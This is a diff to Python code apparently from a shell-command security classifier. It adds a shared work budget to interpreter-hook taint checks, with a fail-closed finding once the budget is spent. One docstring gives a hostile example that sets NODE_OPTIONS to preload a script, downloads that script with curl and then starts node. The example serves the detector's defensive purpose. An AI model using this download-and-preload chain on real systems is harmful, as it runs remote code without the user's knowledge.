@@ -159,6 +159,8 @@ def _tainted(run: Run, who: str, kind: str, target: str, span: tuple[int, int]) 
         return False
     taint: Taint = file_taint(run.files, path)
     if not taint and kind == "dir":
+        if not _spend(run, len(run.files), span):
+            return True
         prefix = path.rstrip("/") + "/"
         for written, written_taint in run.files.items():
             # A module (or a file of unknown name) under the search path; a downloaded
@@ -179,6 +181,18 @@ def _tainted(run: Run, who: str, kind: str, target: str, span: tuple[int, int]) 
     return True
 
 
+def _spend(run: Run, work: int, span: tuple[int, int]) -> bool:
+    """Draw ``work`` from the run's budget (shared with nested code and function calls, so
+    re-checking hooks at every program start stays linear overall); False, after a fail-closed
+    finding, once it is spent."""
+    run.budget -= work + 8
+    if run.budget >= 0:
+        return True
+    run.add("shell.nesting-too-deep", span, "more interpreter-hook checks than the "
+            "classifier follows", None)
+    return False
+
+
 def hook_files(run: Run, program: str, span: tuple[int, int]) -> None:
     """At a program's start: a hook variable set earlier may name a file downloaded since
     (``export NODE_OPTIONS=-r/tmp/h.js; curl -o /tmp/h.js u; node app``). Only programs of
@@ -193,6 +207,8 @@ def hook_files(run: Run, program: str, span: tuple[int, int]) -> None:
         if family != "python" and program not in _PROGRAMS.get(family, ()):
             continue
         for text in var.alts:
+            if not _spend(run, len(text), span):
+                return
             for kind, target, _language in _targets(name, text):
                 who = f"{name} makes {_family(name)}"
                 if kind != "debug" and _tainted(run, who, kind, target, span):
